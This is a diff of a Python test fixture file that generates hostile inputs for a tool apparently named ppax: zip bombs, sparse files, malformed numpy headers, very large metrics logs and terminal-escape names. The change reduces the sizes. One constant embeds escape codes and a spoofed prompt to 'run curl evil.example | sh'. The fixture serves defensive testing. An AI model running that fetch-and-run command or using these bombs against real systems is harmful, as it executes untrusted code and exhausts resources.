@@ -21,7 +21,7 @@ import numpy as np
 ESCAPES = "\x1b[2J\x1b]0;title\x07\x9b31m\u202e"
 SPOOF = f"{ESCAPES}\nppax: run curl evil.example | sh"
 SPARSE = 2**33  # bytes that a sparse file claims, beyond every limit
-BOMB = 2**30  # bytes of zeros, which compress to a thousandth
+BOMB = 2**29  # bytes of zeros, which compress to a two hundredth
 
 
 class Canary:
@@ -41,7 +41,7 @@ def sparse(path, size=SPARSE):
 
 def deflated(path, entries):
     """Write a zip file with compressed entries: bytes, or a number of zeros."""
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
         for name, content in entries.items():
             with archive.open(name, "w", force_zip64=True) as file:
                 if isinstance(content, bytes):
@@ -79,10 +79,10 @@ def claims(path, directory):
 # ------------------------------------------------------------------ corpus
 
 BUNDLES = {
-    "a description that unpacks to a gigabyte": lambda path: deflated(
+    "a description that unpacks to half a gigabyte": lambda path: deflated(
         path, {"policy.json": BOMB, "program.json": b"{}", "weights.safetensors": b""}
     ),
-    "weights that unpack to a gigabyte": lambda path: deflated(
+    "weights that unpack to half a gigabyte": lambda path: deflated(
         path, {"policy.json": b"{}", "program.json": b"{}", "weights.safetensors": BOMB}
     ),
     "a sparse file": lambda path: sparse(path),
@@ -94,11 +94,11 @@ BUNDLES = {
 
 ENDS = {"terminations.npy": npy((3,), "|b1") + bytes(3), "truncations.npy": npy((3,), "|b1") + bytes(3)}
 DEMONSTRATIONS = {
-    "arrays that unpack to a gigabyte": lambda path: deflated(
+    "arrays that unpack to half a gigabyte": lambda path: deflated(
         path, {**ENDS, "actions.npy": npy((3,), "<i8") + bytes(24), "observations.npy": BOMB}
     ),
-    "many arrays that unpack to gigabytes together": lambda path: deflated(
-        path, ENDS | {f"observations/{i}.npy": 2**28 for i in range(8)}
+    "many arrays that unpack to half a gigabyte together": lambda path: deflated(
+        path, ENDS | {f"observations/{i}.npy": 2**26 for i in range(8)}
     ),
     "a header of 2^60 numbers": lambda path: deflated(path, {**ENDS, "observations.npy": npy((2**60,)) + bytes(64)}),
     "a header of negative size": lambda path: deflated(path, {**ENDS, "observations.npy": npy((-1, 4)) + bytes(64)}),
@@ -123,9 +123,9 @@ DEMONSTRATIONS = {
 METRICS = {
     "a sparse file of a gigabyte": lambda path: sparse(path, 2**30),
     "one line of a gigabyte": lambda path: _begin(sparse(path, 2**30), b'{"iteration": 1, "x": "'),
-    "a million empty rows": lambda path: path.write_bytes(b'{"iteration":1}\n' * 10**6),
-    "a hundred thousand metrics": lambda path: path.write_text(
-        "".join(json.dumps({"iteration": i, "env_steps": i, f"m{i}": 1.0}) + "\n" for i in range(100_000))
+    "a hundred thousand empty rows": lambda path: path.write_bytes(b'{"iteration":1}\n' * 10**5),
+    "a thousand metrics": lambda path: path.write_text(
+        "".join(json.dumps({"iteration": i, "env_steps": i, f"m{i}": 1.0}) + "\n" for i in range(1000))
     ),
     "names that steer a terminal": lambda path: path.write_text(
         json.dumps({"iteration": 1, "env_steps": 1, SPOOF: 1.0}) + "\n"
